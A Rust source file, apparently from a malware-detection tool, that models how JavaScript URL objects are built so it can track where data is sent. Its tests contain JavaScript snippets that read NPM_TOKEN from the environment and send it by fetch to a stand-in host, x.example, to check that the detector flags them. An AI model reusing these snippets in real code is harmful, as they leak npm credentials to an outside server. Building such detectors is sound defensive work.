//! Parts of addresses: `new URL(text)` is the text that it is made of, and its properties are pieces of that.

use super::BUDGET;
use crate::value::{Choice, Object, Property, Text, Value};

/// A property of an address that its text tells: `url.href`, `url.origin`, `url.hostname`.
pub(super) fn part_of(url: &Value, name: &str) -> Option<Value> {
    if name == "href" {
        return Some(url.clone());
    }
    let text = beginning(url)?;
    let (start, end) = authority(&text.text)?;
    let part = match name {
        "origin" => &text.text[..end],
        "host" => host(&text.text[start..end]),
        "hostname" => host(&text.text[start..end]).split(':').next()?,
        _ => return None,
    };
    Some(Value::text_from(part, text))
}

/// An address after some of its parts were set: which host it has, or another one altogether.
///
/// What was set beside the host does not change where it leads.
pub(super) fn with_parts_set(url: Value, set: &Object) -> Value {
    if let Some(href) = last_set(set, "href") {
        return href.clone();
    }
    let Some(Value::Text(host)) = last_set(set, "host").or_else(|| last_set(set, "hostname")) else { return url };
    let Some((start, end)) = beginning(&url).and_then(|text| authority(&text.text)) else { return url };
    let moved =
        |text: &Text| Value::text_from(format!("{}{}{}", &text.text[..start], host.text, &text.text[end..]), host);
    match &url {
        Value::Text(text) => moved(text),
        Value::Concat(parts) => {
            let mut parts = parts.to_vec();
            if let Value::Text(text) = &parts[0] {
                parts[0] = moved(text);
            }
            Value::Concat(parts.into())
        }
        _ => url,
    }
}

/// What was set of an address behind its host, in the order in which it stands there.
pub(super) fn parts_behind_host(url: &Value, set: &Object) -> Vec<Value> {
    let set: Vec<&Value> = ["pathname", "search", "hash"].into_iter().filter_map(|name| last_set(set, name)).collect();
    let is_host_open = |text: &&Text| authority(&text.text).is_some_and(|(_, end)| end == text.text.len());
    // An address always has a path.
    let slash = url.as_text().filter(is_host_open).filter(|_| !set.is_empty()).map(|text| Value::text_from("/", text));
    slash.into_iter().chain(set.into_iter().cloned()).collect()
}

/// An address, or also the object that it is where something was set that no address has: a text with properties of its own.
pub(super) fn address_or_object(address: Value, set: Object) -> Value {
    const PARTS: [&str; 10] =
        ["href", "protocol", "username", "password", "host", "hostname", "port", "pathname", "search", "hash"];
    let is_part = |property: &Property| property.name.as_deref().is_some_and(|name| PARTS.contains(&name));
    if set.properties.iter().all(is_part) {
        return address;
    }
    let either = [address, Value::Object(set.into())].map(|value| Choice { value, condition: None });
    Value::one_of(either, BUDGET.choices)
}

/// What a property was set to last.
fn last_set<'o>(set: &'o Object, name: &str) -> Option<&'o Value> {
    let mut properties = set.properties.iter().rev();
    properties.find(|property| property.name.as_deref() == Some(name)).map(|property| &property.value)
}

/// What an address is certain to begin with.
fn beginning(url: &Value) -> Option<&Text> {
    match url {
        Value::Text(text) => Some(text),
        // What comes behind may belong to the host, unless that has ended.
        Value::Concat(parts) => match parts.first()? {
            Value::Text(text) if authority(&text.text).is_some_and(|(_, end)| end < text.text.len()) => Some(text),
            _ => None,
        },
        _ => None,
    }
}

/// Where the user, host and port of an address stand.
fn authority(url: &str) -> Option<(usize, usize)> {
    let start = url.find("://")? + 3;
    let end = url[start..].find(['/', '?', '#']).map_or(url.len(), |length| start + length);
    (end > start).then_some((start, end))
}

/// The host and port without the user.
fn host(authority: &str) -> &str {
    authority.rsplit('@').next().unwrap_or(authority)
}

#[cfg(test)]
mod tests {
    use molehunt_model::Behaviour;

    use crate::testing::extracted;

    fn sent_to(code: &str) -> Vec<String> {
        let code = format!("const text = process.env.NPM_TOKEN; {code}");
        let facts = extracted(&code).facts;
        let sent = facts.iter().filter_map(|fact| match &fact.behaviour {
            Behaviour::SendData(sent) => Some(sent.destination.value.clone()),
            _ => None,
        });
        sent.collect()
    }

    #[test]
    fn an_address_is_what_its_parts_say() {
        for code in [
            "const u = new URL('https://x.example'); u.search = text; fetch(u)",
            "const u = new URL('https://x.example'); u.search = text; fetch(u.href)",
            "fetch(Object.assign(new URL('https://x.example'), { search: text }))",
            "fetch(Object.assign(new URL('https://api.example'), { host: 'x.example', pathname: text }).href)",
            "fetch(new URL('https://x.example/?' + text).href)",
            "const u = new URL('https://x.example/a'); fetch(u.origin + '/?' + text)",
            "const u = new URL('https://api.example/?' + text); u.hostname = 'x.example'; fetch(u)",
            "const u = new URL('https://api.example/'); u.href = 'https://x.example/?' + text; fetch(u)",
        ] {
            assert_eq!(sent_to(code), ["x.example"], "{code}");
        }
    }
}
